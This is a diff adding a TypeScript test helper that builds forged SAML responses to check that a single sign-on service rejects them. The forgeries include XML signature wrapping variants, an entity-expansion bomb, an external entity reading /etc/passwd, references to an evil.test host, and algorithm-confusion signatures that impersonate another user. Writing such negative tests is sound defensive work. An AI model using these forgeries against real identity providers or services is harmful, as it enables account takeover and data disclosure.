@@ -1,0 +1,249 @@
+import { createHmac } from 'node:crypto'
+import { inflateRawSync } from 'node:zlib'
+import type { Credentials } from '../../../demo-host/identity-provider/credentials.ts'
+import {
+  type AssertionFacts,
+  assertionXml,
+  responseXml,
+  samlResponse,
+  signed,
+} from '../../../demo-host/identity-provider/saml-response.ts'
+import { acsUrlOf, spEntityIdOf } from '../rules/sso.ts'
+import type { SsoConnectionRecord } from '../store/records.ts'
+import type { Answer, Kit } from './kit.test-kit.ts'
+
+export const IDP = 'https://idp.saml.test/metadata'
+const VICTIM = 'ada@saml.test'
+const ATTACKER = 'eve@saml.test'
+
+/** A tenant whose people of `saml.test` sign in by SAML. */
+export const connectSaml = async (
+  { store, time, config }: Kit,
+  { certificate }: Pick<Credentials, 'certificate'>,
+  facts: Partial<SsoConnectionRecord> = {},
+): Promise<void> => {
+  const at = { createdAt: time.now, updatedAt: time.now }
+  await store.ssoConnections.insert({
+    id: 'saml-1',
+    tenantId: 'acme',
+    enabled: true,
+    type: 'saml',
+    ssoEndpoint: 'https://idp.saml.test/sso',
+    idpEntityId: IDP,
+    publicCertificate: certificate,
+    signRequest: false,
+    acsUrl: acsUrlOf(config.apiUrl),
+    spEntityId: spEntityIdOf(config.apiUrl),
+    oidcClientId: '',
+    oidcSecret: '',
+    generatedVerification: '',
+    roleIds: '[]',
+    groups: JSON.stringify([{ id: 'g', group: 'Admins', roleIds: ['admin'] }]),
+    skipEmailDomainValidation: false,
+    allowIdpInitiated: false,
+    configMetadata: '{}',
+    ...at,
+    ...facts,
+  })
+  const domain = { connectionId: 'saml-1', tenantId: 'acme', validated: true, createdAt: time.now }
+  await store.ssoDomains.insert({ id: 'd-1', domain: 'saml.test', ...domain })
+}
+
+export interface StartedSaml {
+  requestId: string
+  relayState: string
+  cookie: string
+}
+
+/** What a browser carries to the identity provider. */
+export const startSaml = async (kit: Kit, email = ATTACKER): Promise<StartedSaml> => {
+  const { status, body, cookies } = await kit.call('POST', '/identity/resources/auth/v2/user/sso/prelogin', {
+    body: { email },
+  })
+  if (status !== 200) throw new Error(`Pre-login: ${JSON.stringify(body)}`)
+  const { searchParams } = new URL(body.address)
+  const request = inflateRawSync(Buffer.from(searchParams.get('SAMLRequest') ?? '', 'base64')).toString()
+  return {
+    requestId: / ID="([^"]+)"/.exec(request)?.[1] ?? '',
+    relayState: searchParams.get('RelayState') ?? '',
+    cookie: cookies[0]?.split(';')[0] ?? '',
+  }
+}
+
+export const factsFor = (kit: Kit, started: Pick<StartedSaml, 'requestId'>, email = ATTACKER): AssertionFacts => ({
+  issuer: IDP,
+  audience: spEntityIdOf(kit.config.apiUrl),
+  recipient: acsUrlOf(kit.config.apiUrl),
+  nameId: email,
+  attributes: { email: [email], name: ['Somebody'] },
+  inResponseTo: started.requestId,
+  now: kit.time.now,
+  assertionId: '_assertion',
+  responseId: '_response',
+})
+
+/** Posts to the consumer as a browser does; the query of where it leads. */
+export const postSaml = async (kit: Kit, SAMLResponse: string, RelayState: string): Promise<URLSearchParams> => {
+  const { headers } = await kit.call('POST', '/auth/saml/callback', {
+    headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'https://idp.saml.test' },
+    body: String(new URLSearchParams({ SAMLResponse, RelayState })),
+  })
+  return new URL(headers.get('Location') ?? 'https://nowhere.test').searchParams
+}
+
+export const samlPostLogin = (kit: Kit, SAMLResponse: string, started: StartedSaml): Promise<Answer> =>
+  kit.call('POST', '/identity/resources/auth/v1/user/saml/postlogin', {
+    body: { SAMLResponse, RelayState: started.relayState },
+    cookie: started.cookie,
+  })
+
+const encode = (xml: string): string => Buffer.from(xml).toString('base64')
+const SIGNATURE = /<Signature[\s\S]*?<\/Signature>/
+const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
+
+/** The pieces that wrapping attacks rearrange. */
+const piecesOf = (facts: AssertionFacts, keys: Credentials) => {
+  const plain = assertionXml(facts)
+  const whole = Buffer.from(samlResponse(facts, keys), 'base64').toString()
+  const assertion = ASSERTION.exec(whole)?.[0] ?? ''
+  const signature = SIGNATURE.exec(assertion)?.[0] ?? ''
+  const bare = assertion.replace(SIGNATURE, '')
+  const evil = bare.replaceAll(ATTACKER, VICTIM).replace('ID="_assertion"', 'ID="_evil"')
+  const signedResponse = signed(responseXml(facts, plain), '_response', keys)
+  return {
+    whole,
+    assertion,
+    signature,
+    bare,
+    evil,
+    signedResponse,
+    respond: (content: string) => responseXml(facts, content),
+  }
+}
+
+/** The eight forms of signature wrapping ("On Breaking SAML", 2012). */
+const wrappings = (facts: AssertionFacts, keys: Credentials): [string, string][] => {
+  const { assertion, signature, bare, evil, signedResponse, respond } = piecesOf(facts, keys)
+  const responseSignature = SIGNATURE.exec(signedResponse)?.[0] ?? ''
+  const unsignedResponse = signedResponse.replace(SIGNATURE, '')
+  const evilResponse = unsignedResponse.replaceAll(ATTACKER, VICTIM).replace('ID="_response"', 'ID="_evil"')
+  const into = (element: string, content: string) => element.replace('</saml:Issuer>', `</saml:Issuer>${content}`)
+  const evilSigned = (content: string) => into(evil, content)
+  return [
+    ['XSW1', into(evilResponse, responseSignature.replace('</Signature>', `${unsignedResponse}</Signature>`))],
+    ['XSW2', into(evilResponse, `${unsignedResponse}${responseSignature}`)],
+    ['XSW3', respond(`${evil}${assertion}`)],
+    ['XSW4', respond(evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`))],
+    ['XSW5', respond(`${evilSigned(signature)}${bare}`)],
+    ['XSW6', respond(evilSigned(signature.replace('</Signature>', `${bare}</Signature>`)))],
+    ['XSW7', respond(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)],
+    ['XSW8', respond(evilSigned(signature.replace('</Signature>', `<Object>${bare}</Object></Signature>`)))],
+  ]
+}
+
+const BOMB = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, at) => {
+  const [name, inner] = [String.fromCharCode(98 + at), String.fromCharCode(97 + at)]
+  return `<!ENTITY ${name} "${`&${inner};`.repeat(10)}">`
+}).join('')}]>`
+
+/** Documents with something in them that parsers disagree about. */
+const oddDocuments = (facts: AssertionFacts, keys: Credentials): [string, string][] => {
+  const { whole, assertion } = piecesOf(facts, keys)
+  const longer = assertionXml(facts).replaceAll(`>${ATTACKER}<`, `>${VICTIM}.evil.test<`)
+  // Signed for a longer name: the canonical form is the same with what is put in afterwards.
+  const named = signed(responseXml(facts, longer), '_assertion', keys)
+  const spliced = (between: string) => named.replaceAll(`${VICTIM}.evil.test`, `${VICTIM}${between}.evil.test`)
+  return [
+    ['comment in the name', spliced('<!---->')],
+    ['CDATA in the name', spliced('<![CDATA[]]>')],
+    ['processing instruction in the name', spliced('<?x?>')],
+    ['comment before the assertion', whole.replace('<saml:Assertion', '<!-- x --><saml:Assertion')],
+    ['entity bomb', `${BOMB}${whole.replace('Somebody', '&j;')}`],
+    ['DTD', `<!DOCTYPE x SYSTEM "https://evil.test/x.dtd">${whole}`],
+    ['external entity', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${whole.replace('Somebody', '&f;')}`],
+    [
+      'encrypted assertion beside it',
+      whole.replace('</samlp:Response>', '<saml:EncryptedAssertion/></samlp:Response>'),
+    ],
+    ['two assertions', whole.replace(assertion, `${assertion}${assertion}`)],
+    ['stylesheet', `<?xml-stylesheet href="https://evil.test/x.xsl"?>${whole}`],
+    ['very deep', whole.replace('Somebody', `${'<a>'.repeat(500)}${'</a>'.repeat(500)}`)],
+    ['not XML', 'Somebody'],
+    ['empty', ''],
+  ]
+}
+
+const hmacSigned = (facts: AssertionFacts, keys: Credentials): string => {
+  const { whole } = piecesOf(facts, keys)
+  const forged = whole.replaceAll(ATTACKER, VICTIM).replace(/xmldsig-more#rsa-sha256/, 'xmldsig-more#hmac-sha256')
+  const value = createHmac('sha256', keys.certificate).update(forged).digest('base64')
+  return forged.replace(/<SignatureValue>[^<]*/, `<SignatureValue>${value}`)
+}
+
+const signatures = (facts: AssertionFacts, keys: Credentials, strangers: Credentials): [string, string][] => {
+  const { whole, signature, signedResponse, assertion } = piecesOf(facts, keys)
+  return [
+    ['unsigned', responseXml(facts, assertionXml(facts))],
+    ['signed by somebody else', Buffer.from(samlResponse(facts, strangers), 'base64').toString()],
+    ['two signatures', whole.replace(signature, `${signature}${signature}`)],
+    ['changed after signing', whole.replaceAll(ATTACKER, VICTIM)],
+    [
+      'good response, broken assertion signature',
+      signedResponse.replace(ASSERTION, assertion.replaceAll(ATTACKER, VICTIM)),
+    ],
+    ['HMAC with the certificate', hmacSigned(facts, keys)],
+    ['SHA-1', whole.replace(/2001\/04\/xmldsig-more#rsa-sha256/, '2000/09/xmldsig#rsa-sha1')],
+    ['no reference', whole.replace(/<Reference[\s\S]*?<\/Reference>/, '')],
+    ['empty reference', whole.replace('URI="#_assertion"', 'URI=""')],
+  ]
+}
+
+const MINUTE = 60_000
+
+/** Rightly signed, and not for us, not now, or not asked for. */
+const wrongFacts = (kit: Kit, facts: AssertionFacts, keys: Credentials): [string, string][] => {
+  const bent: Record<string, Partial<AssertionFacts>> = {
+    'another audience': { audience: 'https://other.test/sp' },
+    'another recipient': { recipient: 'https://other.test/acs' },
+    'another issuer': { issuer: 'https://other.test/idp' },
+    'another request': { inResponseTo: '_another' },
+    expired: { now: kit.time.now - 11 * MINUTE },
+    'over by a second past tolerance': { lifeMs: -31_000 },
+    'from the future': { now: kit.time.now + 2 * MINUTE },
+    'nobody asked': { inResponseTo: undefined },
+  }
+  const xml = (change: Partial<AssertionFacts>) => {
+    const { inResponseTo, ...rest } = { ...facts, ...change }
+    return Buffer.from(samlResponse({ ...rest, ...(inResponseTo && { inResponseTo }) }, keys), 'base64').toString()
+  }
+  const sign = (assertion: string) => signed(responseXml(facts, assertion), '_assertion', keys)
+  const plain = assertionXml(facts)
+  return [
+    ...Object.entries(bent).map(([name, change]): [string, string] => [name, xml(change)]),
+    ['no audience', sign(plain.replace(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, ''))],
+    ['no confirmation', sign(plain.replace(/<saml:SubjectConfirmation .*<\/saml:SubjectConfirmation>/, ''))],
+    ['no end', sign(plain.replaceAll(/ NotOnOrAfter="[^"]*"/g, ''))],
+    ['status of a failure', xml({}).replace('status:Success', 'status:Responder')],
+    [
+      'answer to another request around it',
+      xml({}).replace(`InResponseTo="${facts.inResponseTo}"`, 'InResponseTo="_x"'),
+    ],
+    ['sent to somebody else', xml({}).replace(/Destination="[^"]*"/, 'Destination="https://other.test/acs"')],
+  ]
+}
+
+/** RELIABILITY row 43: none of these may lead to a session. */
+export const samlForgeries = (
+  kit: Kit,
+  started: StartedSaml,
+  { keys, strangers }: { keys: Credentials; strangers: Credentials },
+): [string, string][] => {
+  const facts = factsFor(kit, started)
+  const all = [
+    ...wrappings(facts, keys),
+    ...oddDocuments(facts, keys),
+    ...signatures(facts, keys, strangers),
+    ...wrongFacts(kit, facts, keys),
+  ]
+  return all.map(([name, xml]) => [name, encode(xml)])
+}
